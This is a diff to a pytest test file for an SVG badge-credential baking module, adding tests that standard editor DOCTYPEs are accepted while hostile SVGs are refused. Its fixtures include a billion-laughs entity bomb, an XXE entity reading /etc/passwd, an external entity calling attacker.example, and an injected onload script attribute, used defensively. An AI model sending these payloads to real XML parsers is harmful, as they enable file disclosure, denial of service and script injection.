@@ -11,6 +11,7 @@ import pytest
 from microcareer.domain.credentials.baking import (
     MAX_IMAGE_BYTES,
     MAX_PAYLOAD_BYTES,
+    MAX_SVG_DEPTH,
     PNG_SIGNATURE,
     Baked,
     bake_png,
@@ -183,25 +184,86 @@ def test_svg_without_credential_says_so() -> None:
         unbake(SVG.encode())
 
 
+EDITOR_DOCTYPE = (
+    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
+)
+"""What Inkscape, Illustrator and 1EdTech's own example badges write before ``<svg>``."""
+
+
+def test_svg_with_the_standard_external_doctype_bakes_and_reads_back() -> None:
+    svg = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
+        f"{EDITOR_DOCTYPE}\n"
+        "<!-- Created with an SVG editor -->\n"
+        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" version="1.1" '
+        'width="200" height="200"><g id="layer1"><circle cx="100" cy="100" r="90"/></g></svg>\n'
+    )
+    baked = bake_svg(svg, CREDENTIAL)
+    assert baked.startswith(svg.split("<svg", 1)[0])  # the prolog, DOCTYPE included, is kept as written
+    assert unbake(baked.encode()) == Baked("svg", "3.0", CREDENTIAL)
+    assert unbake(bake_svg(svg, JWT).encode()) == Baked("svg", "3.0", JWT)
+
+
+def test_the_external_dtd_is_never_loaded_so_its_entities_are_undefined() -> None:
+    # &nbsp; would come from the DTD if it were read; it is not, so the reference is an error.
+    svg = f'{EDITOR_DOCTYPE}<svg xmlns="http://www.w3.org/2000/svg"><text>a&nbsp;b</text></svg>'
+    with pytest.raises(InvalidInput, match="undefined entity"):
+        unbake(svg.encode())
+
+
 @pytest.mark.parametrize(
-    "hostile",
+    ("hostile", "reason"),
     [
         # entity expansion ("billion laughs")
-        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">'
-        '<!ENTITY c "&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg">&c;</svg>',
+        (
+            '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">'
+            '<!ENTITY c "&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg">&c;</svg>',
+            "internal subset",
+        ),
         # external entity (XXE)
-        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
-        '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
-        # a bare DOCTYPE
-        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
-        '<svg xmlns="http://www.w3.org/2000/svg"/>',
+        (
+            '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+            '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
+            "internal subset",
+        ),
+        # an external DOCTYPE with an internal subset added to it
+        (
+            EDITOR_DOCTYPE[:-1] + ' [<!ENTITY logo SYSTEM "http://attacker.example/x">]>'
+            '<svg xmlns="http://www.w3.org/2000/svg">&logo;</svg>',
+            "internal subset",
+        ),
+        # an internal subset without entities (attribute defaults) is refused too
+        (
+            '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg xmlns="http://www.w3.org/2000/svg"/>',
+            "internal subset",
+        ),
+        # nesting deeper than MAX_SVG_DEPTH
+        (
+            '<svg xmlns="http://www.w3.org/2000/svg">'
+            + "<g>" * MAX_SVG_DEPTH
+            + "</g>" * MAX_SVG_DEPTH
+            + "</svg>",
+            f"nested deeper than {MAX_SVG_DEPTH}",
+        ),
     ],
 )
-def test_hostile_svg_is_refused(hostile: str) -> None:
-    with pytest.raises(InvalidInput, match="DOCTYPE or entity"):
+def test_hostile_svg_is_refused(hostile: str, reason: str) -> None:
+    with pytest.raises(InvalidInput, match=reason):
         unbake(hostile.encode())
-    with pytest.raises(InvalidInput, match="DOCTYPE or entity"):
+    with pytest.raises(InvalidInput, match=reason):
         bake_svg(hostile, CREDENTIAL)
+
+
+def test_nesting_up_to_the_bound_is_accepted() -> None:
+    inner = "<g>" * (MAX_SVG_DEPTH - 1) + "</g>" * (MAX_SVG_DEPTH - 1)
+    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>'
+    assert unbake(bake_svg(svg, JWT).encode()).payload == JWT
+
+
+def test_an_oversized_svg_is_refused_before_parsing() -> None:
+    svg = '<svg xmlns="http://www.w3.org/2000/svg">' + " " * MAX_IMAGE_BYTES + "</svg>"
+    with pytest.raises(InvalidInput, match="larger than"):
+        unbake(svg.encode())
 
 
 @pytest.mark.parametrize(
